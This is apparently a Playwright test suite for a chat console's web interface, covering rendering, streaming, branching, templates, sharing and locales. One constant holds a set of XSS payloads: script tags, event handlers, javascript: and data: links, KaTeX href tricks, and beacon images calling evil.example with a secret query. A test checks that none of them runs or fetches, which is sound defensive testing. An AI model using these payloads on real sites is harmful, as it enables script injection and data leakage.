"""Chat in a browser, against a running installation and a provider that says what it is told to."""

from __future__ import annotations

import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, FilePayload, expect

from rechenwerk.providers.assets import POTION, SMOLLM2, fetch
from tests.fakes.knobs import Knobs
from tests.fakes.provider import running_fake
from tests.flows.browsing import NASTY, PATIENCE, Cloud, Visitor
from tests.flows.chatting import Talker, person
from tests.flows.conftest import MODELS
from tests.flows.serving import arguments, serving

RICH = """# Result

The **sum** is $\\frac{a}{b} = \\sqrt{2}$ and

$$\\sum_{i=1}^n i = \\frac{n(n+1)}{2}$$

| item | price |
| --- | ---: |
| paper | 4.20 |

```python
def add(a: int, b: int) -> int:
    return a + b  # the sum
```

A [link](https://example.org/a) and \\(x^2\\).
"""
EVIL = (
    '<script>window.pwned = 1</script> <img src=x onerror="window.pwned=2"> '
    "[a](javascript:window.pwned=3) [b](data:text/html,<script>window.pwned=4</script>) "
    "![beacon](https://evil.example/beacon.png?q=secret) [c](/console/sign-out) "
    "<svg onload=window.pwned=5> [d](JaVaScRiPt&colon;window.pwned=6) "
    "[![x](https://evil.example/nested.png)](javascript:window.pwned=7) "
    "$\\href{javascript:window.pwned=8}{x}$ $\\htmlStyle{position:fixed}{y}$ "
    "$\\includegraphics{https://evil.example/tex.png}$ "
    "<https://evil.example/auto> `<b>code</b>`\n\n"
    "```html\n<script>window.pwned=9</script>\n```\n\n"
    '<math><annotation-xml encoding="text/html"><iframe src=javascript:window.pwned=10>'
)


@pytest.fixture
def fake(cloud: Cloud) -> Iterator[Knobs]:
    """The provider's knobs, turned back afterwards."""
    yield cloud.fake.knobs
    cloud.fake.knobs = Knobs()


def ask(visitor: Visitor, text: str) -> None:
    """Write a question and send it by the keyboard; wait for the booked answer."""
    page = visitor.page
    before = page.locator("#thread article .told").count()
    page.get_by_label("Your question").fill(text)
    page.keyboard.press("Enter")
    page.locator("#thread article .told").nth(before).wait_for()


def test_an_answer_is_drawn_and_priced(visitor: Visitor, cloud: Cloud, fake: Knobs) -> None:
    fake.answer_text = RICH
    page = visitor.page
    visitor.open("/console/chat")
    ask(visitor, NASTY)
    page.locator("#thread h3", has_text="Result").wait_for()
    assert page.locator("#thread math").count() == 3
    assert page.locator("#thread math mfrac").count() == 2
    assert page.locator("#thread td[align=right]", has_text="4.20").count() == 1
    assert page.locator("#thread math[display=block]").count() == 1
    assert page.locator("#thread .hljs-keyword").first.text_content() == "def"
    link = page.locator("#thread .markdown a")
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    call = page.locator(".told code").text_content()
    booked = cloud.api("GET", f"/books/calls/{call}")
    assert f"{booked['usage']['output']} out" in (page.locator(".told").text_content() or "")
    page.locator(".told a").click()
    page.wait_for_url(f"**/console/journal/{call}")
    assert visitor.said == []


def test_what_a_model_writes_does_nothing(visitor: Visitor, fake: Knobs) -> None:
    fake.answer_text = EVIL
    page = visitor.page
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    visitor.open("/console/chat")
    ask(visitor, EVIL)
    page.locator("#thread .markdown").last.wait_for()
    assert page.evaluate("window.pwned") is None
    links = page.locator("#thread .markdown a").evaluate_all(
        "all => all.map(one => one.getAttribute('href'))"
    )
    assert {one for one in links if one is not None} <= {
        "https://evil.example/beacon.png?q=secret",
        "https://evil.example/nested.png",
        "https://evil.example/auto",
    }
    inert = "#thread :is(img, script, svg, iframe, style, object, annotation, [onload], [onerror])"
    assert page.locator(inert).count() == 0
    assert page.locator("#thread .markdown [style]").count() == 0
    assert page.get_by_text("<script>window.pwned = 1</script>").count() >= 1, "it is shown as text"
    assert not [one for one in asked if "evil.example" in one]
    page.reload()
    page.locator("#thread .markdown a").first.wait_for()
    assert page.evaluate("window.pwned") is None
    assert not [one for one in asked if "evil.example" in one]
    assert visitor.said == []


def test_esc_stops_and_what_came_is_booked(visitor: Visitor, cloud: Cloud, fake: Knobs) -> None:
    fake.answer_tokens, fake.pace_ms = 5000, 20
    page = visitor.page
    visitor.open("/console/chat")
    page.get_by_label("Your question").fill("Tell me everything")
    page.keyboard.press("Enter")
    page.locator("#thread .markdown", has_text="word3").wait_for()
    page.keyboard.press("Escape")
    page.get_by_text("Stopped; what had come is kept").wait_for()
    page.locator(".told", has_text="Tokens").wait_for()  # the gateway hears the provider out first
    call = page.locator(".told code").text_content()
    usage = cloud.api("GET", f"/books/calls/{call}")["usage"]
    assert 3 < usage["output"] < 5000
    assert "word3" in (page.locator("#thread .markdown").text_content() or "")
    assert visitor.said == []


def test_a_changed_question_begins_a_branch(visitor: Visitor, fake: Knobs) -> None:
    page = visitor.page
    visitor.open("/console/chat")
    fake.answer_text = "first answer"
    ask(visitor, "first question")
    fake.answer_text = "second answer"
    page.get_by_role("button", name="Another answer").click()
    page.locator("#thread .markdown", has_text="second answer").wait_for()
    page.get_by_text("2/2").wait_for()
    page.get_by_role("link", name="Branch before").click()
    page.locator("#thread .markdown", has_text="first answer").wait_for()
    assert page.get_by_text("second answer").count() == 0
    page.get_by_role("link", name="Edit", exact=True).click()
    page.get_by_text("You are changing a question").wait_for()
    fake.answer_text = "third answer"
    page.get_by_label("Your question").fill("other question")
    page.get_by_role("button", name="Send").click()
    page.locator("#thread .markdown", has_text="third answer").wait_for()
    page.locator(".told").wait_for()
    assert page.locator("#thread").get_by_text("first question").count() == 0
    page.get_by_role("link", name="Branch before").click()
    page.locator("#thread").get_by_text("first question").wait_for()
    assert visitor.said == []


def test_files_templates_sharing_and_search(visitor: Visitor, fake: Knobs) -> None:
    page = visitor.page
    visitor.open("/console/chat/templates")
    page.get_by_label("Name").fill(f"Letter {NASTY}")
    page.get_by_label("Text", exact=True).fill("Dear {{who}}, about {{what}}")
    page.get_by_role("button", name="Save").click()
    page.get_by_text("Saved.").wait_for()
    page.get_by_role("link", name="Use").last.click()
    page.get_by_label("who", exact=True).fill("Nora")
    page.get_by_label("what", exact=True).fill("zebras")
    page.get_by_role("button", name="Fill it in").click()
    expect(page.get_by_label("Your question")).to_have_value("Dear Nora, about zebras")
    note: FilePayload = {"name": f"{NASTY}.txt", "mimeType": "text/plain", "buffer": b"the budget is 42"}
    page.locator("#file").set_input_files(files=note)
    page.locator("#chips [data-file]").wait_for()
    page.get_by_label("Your question").press("Enter")
    page.locator("#thread .told").wait_for()
    page.locator("#thread .chip", has_text=".txt").wait_for()
    page.get_by_text("This conversation").click()
    page.get_by_role("button", name="Share in the organisation").click()
    page.get_by_text("Everybody in the organisation may read it now.").wait_for()
    page.keyboard.press("Escape")
    page.locator("#q").fill("zebras nora")
    expect(page.locator("#found .talks-list a")).to_have_count(1)
    page.locator("#q").fill("no such words")
    page.get_by_text("No conversation has these words.").wait_for()
    assert visitor.said == []


def test_a_member_begins_with_chat(browser: Browser, cloud: Cloud, fake: Knobs) -> None:
    fake.answer_text = "42"
    nora = person(cloud)
    context = browser.new_context(viewport={"width": 360, "height": 740}, locale="de-DE")
    visitor = Visitor(context, cloud)
    context.add_cookies([{"name": "rw_session", "value": nora.key, "url": cloud.office_url}])
    page = visitor.page
    visitor.open("/console/")
    page.wait_for_url("**/console/chat")
    page.get_by_label("Ihre Frage").fill("Was ist 6 mal 7?")
    page.get_by_role("button", name="Senden").click()
    page.locator("#thread .told").wait_for()
    page.locator("#thread .markdown", has_text="42").wait_for()
    assert page.locator(".told a").count() == 0, "the journal is not a member's"
    assert visitor.over() <= 0
    assert visitor.said == []
    context.close()


def test_without_scripts_it_still_answers(browser: Browser, cloud: Cloud, fake: Knobs) -> None:
    fake.answer_text = "plain words"
    context = browser.new_context(java_script_enabled=False, locale="en-GB")
    visitor = Visitor(context, cloud)
    page = visitor.page
    visitor.open("/console/chat")
    page.get_by_label("Your question").fill("Does it work?")
    page.get_by_role("button", name="Send").click()
    page.locator("#thread pre", has_text="plain words").wait_for()
    page.locator("#thread .told", has_text="Tokens").wait_for()
    context.close()


def test_the_embedded_model_chats_and_is_booked(browser: Browser) -> None:
    for asset in (SMOLLM2, POTION):
        fetch(asset, MODELS, print)
    with tempfile.TemporaryDirectory(prefix="rw-console-", ignore_cleanup_errors=True) as folder:
        data = Path(folder) / "data"
        data.mkdir()
        (data / "models").symlink_to(MODELS)
        with running_fake() as fake, serving(arguments(data)) as (_, ready):
            cloud = Cloud(ready, fake)
            context = browser.new_context(locale="en-GB")
            visitor = Visitor(context, cloud)
            context.set_default_timeout(5 * PATIENCE)  # a model on a core that others use as well
            page = visitor.page
            visitor.open("/console/chat")
            page.get_by_label("Model").select_option("smollm2-135m")
            ask(visitor, "Say hello in one sentence.")
            call = page.locator(".told code").text_content()
            booked = cloud.api("GET", f"/books/calls/{call}")
            told = page.locator(".told").text_content() or ""
            assert f"{booked['usage']['output']} out" in told
            assert booked["provider"] in told
            assert (page.locator("#thread .markdown").text_content() or "").strip()
            context.close()


def test_an_answer_that_somebody_else_reads_is_waited_for(
    visitor: Visitor, cloud: Cloud, fake: Knobs, axe: str
) -> None:
    fake.answer_text, fake.pace_ms = "**bold** " + "words " * 120, 40
    talker = Talker(cloud, cloud.key)
    chat = talker.begin()
    with talker.asking(chat, text="Tell me") as events:
        next(event for event in events if event[0] == "text")
        visitor.open(f"/console/chat/{chat}")
        answer = visitor.page.locator("#thread article", has_text="The answer is being written")
        expect(answer).to_have_attribute("aria-busy", "true")
        wrong, _ = visitor.judged(axe)
        assert wrong == []
        (end,) = [data for name, data in events if name == "end"]
    assert end["state"] == "done"
    expect(visitor.page.locator("#thread .told")).to_be_visible()
    expect(answer).to_have_count(0)
    expect(visitor.page.locator("#thread .markdown strong")).to_have_count(1)
